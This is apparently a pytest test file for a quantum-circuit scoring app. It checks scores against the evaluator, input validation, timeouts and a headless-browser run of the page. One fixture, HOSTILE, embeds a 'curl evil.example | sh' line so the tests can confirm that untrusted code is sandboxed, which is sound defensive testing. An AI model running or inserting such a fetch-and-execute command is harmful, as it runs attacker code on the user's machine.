"""The app: handlers against the evaluator, every bad input, and the page in a real browser."""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import statistics
import time
from pathlib import Path

import psutil
import pytest

from rubriq.app import QFT3_EXAMPLE, handlers, metrics_markdown
from rubriq.app.handlers import AppInputError
from rubriq.evaluator import RubriQEvaluator

gradio = pytest.importorskip("gradio", reason="the app needs gradio (pip install -e '.[app]')")

QFT3 = QFT3_EXAMPLE  # the page's own example: a textbook QFT-3
HOSTILE = """```python
from qiskit import QuantumCircuit
import os
os.system("curl evil.example | sh")
qc = QuantumCircuit(1)
```"""


def test_score_handler_equals_the_evaluator():
    view = handlers.score_text(QFT3, "qft", 3)
    ref = RubriQEvaluator(target_algorithm="qft", num_qubits=3).evaluate(QFT3)
    assert abs(view.reward - ref.reward) < 1e-9
    assert abs(view.metrics["F_process"] - ref.process_fidelity) < 1e-9 and view.correct
    assert [s for _, s, _ in view.scores] == [
        ref.scores[k] for k in ("clifford", "tcount", "hardware", "fidelity", "efficiency")
    ]
    assert {row[0] for row in view.hardware} == set(ref.hardware)
    assert "H" in view.drawing and "qreg q[3]" in view.qasm
    table = metrics_markdown(view)
    assert f"| F_process | {ref.process_fidelity!r} |" in table  # full precision on the page


def test_rewrite_target_from_reference_qasm():
    view = handlers.score_text(QFT3, "circuit", None, "", QFT3)
    assert view.correct and view.metrics["verdict"] == "equivalent"


@pytest.mark.parametrize(
    "text, match",
    [
        ("", "empty"),
        ("   \n", "empty"),
        ("x" * 10_000_001, "limit is 2 MB"),
        ("OPENQASM 2.0;\x00\x01\x02garbage", "NUL bytes"),
    ],
)
def test_bad_completion_text(text, match):
    with pytest.raises(AppInputError, match=match):
        handlers.score_text(text, "qft", 3)


def test_binary_and_huge_uploads(tmp_path):
    binary = tmp_path / "garbage.qasm"
    binary.write_bytes(bytes(range(256)) * 10)
    with pytest.raises(AppInputError, match="not UTF-8 text"):
        handlers.read_upload(binary)
    huge = tmp_path / "huge.qasm"
    huge.write_bytes(b"x" * 3_000_000)
    with pytest.raises(AppInputError, match="limit is 2 MB"):
        handlers.read_upload(huge)
    good = tmp_path / "qft3.qasm"
    good.write_text("\ufeff" + QFT3)  # a BOM is not part of the text
    assert handlers.read_upload(good) == QFT3


@pytest.mark.parametrize(
    "name, qubits, params, match",
    [
        ("qft", 3, "colour=blue", "unknown parameter"),
        ("qft", 3, "justtext", "expected key=value"),
        ("qpe", 3, "phase=2.5", "phase"),
        ("qft", 2.5, "", "whole number"),
        ("qft", None, "", "whole number"),
        ("qft", 99, "", "num_qubits must lie in"),
        ("nosuch", 3, "", "unknown target"),
        ("circuit", None, "", "reference QASM is empty"),
    ],
)
def test_bad_target_fields(name, qubits, params, match):
    with pytest.raises(AppInputError, match=match):
        handlers.score_text(QFT3, name, qubits, params)


def test_hostile_python_is_sandboxed_and_typed():
    view = handlers.score_text(HOSTILE, "qft", 1)
    assert view.reward == 0.0 and view.error_type in ("parse", "sandbox")
    assert f"`{view.error_type}` error" in view.summary


def test_too_wide_for_exact_fidelity_shows_the_interval():
    from qiskit import qasm2
    from qiskit.synthesis import synth_qft_full

    view = handlers.score_text(qasm2.dumps(synth_qft_full(14)), "qft", 14)
    assert view.metrics["fidelity method"] == "sampled" and view.metrics["interval"] is not None
    assert "interval" in metrics_markdown(view)


def test_synthesize_without_and_with_a_model():
    with pytest.raises(AppInputError, match="rubriq app --model embedded"):
        handlers.synthesize_view(None, "a 3-qubit QFT")
    from rubriq.app import load_app_policy

    policy = load_app_policy("tiny")
    seen = []
    view = handlers.synthesize_view(
        policy,
        "Synthesize a 2-qubit QFT",
        n=2,
        max_new_tokens=16,
        on_batch=lambda done, total: seen.append((done, total)),
    )
    assert len(view.table) == 2 and [row[0] for row in view.table] == [1, 2]
    assert view.table[0][1] >= view.table[1][1]  # sorted by reward
    assert seen and seen[-1] == (2, 2)
    for bad, match in ((dict(n=0), "samples"), (dict(n=2.5), "samples"), (dict(max_new_tokens=-1), "max new tokens")):
        with pytest.raises(AppInputError, match=match):
            handlers.synthesize_view(policy, "a 2-qubit QFT", **bad)
    with pytest.raises(AppInputError, match="cannot map this text"):
        handlers.synthesize_view(policy, "make me a sandwich", n=1)


def test_a_method_past_its_time_limit_is_a_timeout_and_its_process_is_ended():
    """The child sleeps 10 minutes (tests/slow_worker.py): whatever the machine's speed, a 1 s
    limit ends it, and the view says `timeout`."""
    from rubriq.app import TOFFOLI_EXAMPLE
    from rubriq.extract.qasm import load_qasm
    from rubriq.suites import make_entry
    from tests.slow_worker import sleep_instead_of_compiling

    entry = make_entry("app", "input", load_qasm(TOFFOLI_EXAMPLE), "pasted")

    def workers() -> set[int]:  # spawned children (not multiprocessing's resource tracker)
        return {p.pid for p in psutil.Process().children() if "spawn_main" in " ".join(p.cmdline())}

    before = workers()
    result = handlers.run_with_limit(entry, "tket", 1.0, work=sleep_instead_of_compiling)
    assert result.verdict == "timeout" and "within 1 s" in result.detail
    assert not workers() - before  # killed and joined


def test_baselines_handler_verifies_and_limits_time():
    from rubriq.app import TOFFOLI_EXAMPLE

    view = handlers.baselines_view(TOFFOLI_EXAMPLE, ["qiskit", "pyzx"], 120)
    assert [row[0] for row in view.table] == ["qiskit", "pyzx"]
    assert all(row[3] in ("exact", "qcec") for row in view.table), view.table
    assert "T0 = 22" in view.summary and all(row[1] < 22 for row in view.table)  # 3 x 7 + 1
    # the page's QFT-3 (cp gates outside qelib1, a final swap): every method verified, with its layout
    qft = handlers.baselines_view(QFT3, list(handlers.BASELINE_METHODS), 300)
    assert [row[3] for row in qft.table] == ["exact"] * 3, qft.table
    with pytest.raises(AppInputError, match="does not load"):
        handlers.baselines_view("not a circuit", ["qiskit"], 10)
    with pytest.raises(AppInputError, match="methods"):
        handlers.baselines_view(QFT3, ["magic"], 10)


# -- the page in a real browser -----------------------------------------------------------------
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
CHROMEDRIVER = shutil.which("chromedriver")


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def browser_app():
    if not (CHROMIUM and CHROMEDRIVER):
        pytest.skip(
            "Chromium / chromedriver not installed (make setup installs Debian's chromium and "
            "chromium-driver); the handlers are tested above"
        )
    pytest.importorskip("selenium")
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    from rubriq.app import build_app, load_app_policy

    port = _free_port()
    demo = build_app(load_app_policy("tiny"), "tiny (random, for tests)")
    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, show_error=False)
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for flag in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1280,2200"):
        options.add_argument(flag)
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
    timings: dict[str, list[float]] = {"page_load_s": [], "score_s": []}
    try:
        yield driver, f"http://127.0.0.1:{port}/", timings
    finally:
        driver.quit()
        demo.close()
        out = os.environ.get("RUBRIQ_APP_SCREENSHOTS")
        if out:
            (Path(out) / "timings.json").write_text(
                json.dumps(
                    {k: {"runs": len(v), "p50": statistics.median(v) if v else None} for k, v in timings.items()},
                    indent=2,
                )
            )


def _wait(driver, condition, timeout=120):
    from selenium.webdriver.support.ui import WebDriverWait

    return WebDriverWait(driver, timeout, poll_frequency=0.1).until(condition)


def _type(element, text):
    """Replace the field's text with ``text`` and check that it holds exactly that before anything
    is clicked: under load a select-all can miss its field (a fresh-clone CI run scored the old text
    with one character deleted instead of " "), so the keys are sent again until it does."""
    from selenium.webdriver.common.keys import Keys

    for _ in range(3):
        element.send_keys(Keys.CONTROL, "a")
        element.send_keys(Keys.DELETE)
        element.send_keys(text)
        if element.get_attribute("value") == text:
            return
    assert element.get_attribute("value") == text, element.get_attribute("value")


def _screenshot(driver, name, tmp_path):
    out = Path(os.environ.get("RUBRIQ_APP_SCREENSHOTS") or tmp_path)
    out.mkdir(parents=True, exist_ok=True)
    driver.save_screenshot(str(out / f"{name}.png"))
    return out / f"{name}.png"


def _load(driver, url, timings):
    from selenium.webdriver.common.by import By

    start = time.monotonic()
    driver.get(url)
    _wait(driver, lambda d: d.find_elements(By.CSS_SELECTOR, "#score-button"))
    timings["page_load_s"].append(time.monotonic() - start)


def _score(driver, text, timings):
    from selenium.webdriver.common.by import By

    before = driver.find_element(By.CSS_SELECTOR, "#score-summary").text
    _type(driver.find_element(By.CSS_SELECTOR, "#score-text textarea"), text)
    start = time.monotonic()
    driver.find_element(By.CSS_SELECTOR, "#score-button").click()

    def done(d):
        now = d.find_element(By.CSS_SELECTOR, "#score-summary").text
        return now != before and ("reward" in now or "error" in now) and "processing" not in now

    _wait(driver, done)
    timings["score_s"].append(time.monotonic() - start)
    return driver.find_element(By.CSS_SELECTOR, "#score-summary").text


def test_browser_score_tab(browser_app, tmp_path):
    from selenium.webdriver.common.by import By

    driver, url, timings = browser_app
    ref = RubriQEvaluator(target_algorithm="qft", num_qubits=3).evaluate(QFT3)
    for _ in range(3):  # three loads and scores: the p50 latencies of the closing note
        _load(driver, url, timings)
        summary = _score(driver, QFT3, timings)
    assert "correct" in summary
    metrics = driver.find_element(By.CSS_SELECTOR, "#score-metrics").text
    values = dict(re.findall(r"^(reward|F_process)\s+(\S+)$", metrics, flags=re.M))
    assert abs(float(values["reward"]) - ref.reward) <= 1e-9, metrics
    assert abs(float(values["F_process"]) - ref.process_fidelity) <= 1e-9, metrics
    _screenshot(driver, "score", tmp_path)
    hostile = _score(driver, HOSTILE, timings)
    assert re.search(r"(parse|sandbox)\s*error", hostile) and "os" in hostile, hostile
    empty = _score(driver, " ", timings)
    assert "error" in empty and "empty" in empty and "Traceback" not in driver.page_source


def test_browser_synthesize_and_baselines_tabs(browser_app, tmp_path):
    from selenium.webdriver.common.by import By

    driver, url, timings = browser_app
    _load(driver, url, timings)
    driver.find_element(By.XPATH, "//button[@role='tab' and contains(., 'Synthesize')]").click()
    _type(driver.find_element(By.CSS_SELECTOR, "#synth-n input"), "2")
    _type(driver.find_element(By.CSS_SELECTOR, "#synth-tokens input"), "16")
    driver.find_element(By.CSS_SELECTOR, "#synth-button").click()
    _wait(driver, lambda d: "parsed" in d.find_element(By.CSS_SELECTOR, "#synth-summary").text)
    grid = driver.find_element(By.CSS_SELECTOR, "#synth-table [role='grid']")
    assert grid.get_attribute("aria-rowcount") == "3"  # the header and N = 2 candidates (the grid is virtual)
    assert "extracted by / error" in grid.text
    _screenshot(driver, "synthesize", tmp_path)
    driver.find_element(By.XPATH, "//button[@role='tab' and contains(., 'Baselines')]").click()
    driver.find_element(By.CSS_SELECTOR, "#base-button").click()
    _wait(driver, lambda d: "verdicts" in d.find_element(By.CSS_SELECTOR, "#base-summary").text, timeout=300)
    table = driver.find_element(By.CSS_SELECTOR, "#base-table").text
    assert "qiskit" in table and "pyzx" in table and ("exact" in table or "qcec" in table), table
    _screenshot(driver, "baselines", tmp_path)


def test_cli_app_flags_and_space_files(tmp_path):
    from typer.testing import CliRunner

    from rubriq.cli import app

    runner = CliRunner()
    for args, flag in (
        (["--port", "0"], "--port"),
        (["--model", str(tmp_path / "missing")], "--model"),
        (["--concurrency", "0"], "--concurrency"),
    ):
        result = runner.invoke(app, ["app", *args])
        assert result.exit_code == 2 and flag in result.output, result.output
    result = runner.invoke(app, ["app", "--write-space", str(tmp_path / "space")])
    assert result.exit_code == 0, result.output
    readme = (tmp_path / "space" / "README.md").read_text()
    assert "sdk: gradio" in readme and "app_file: app.py" in readme
    code = (tmp_path / "space" / "app.py").read_text()
    compile(code, "app.py", "exec")
    assert "MODEL = 'embedded'" in code and "gradio" not in (tmp_path / "space" / "requirements.txt").read_text()
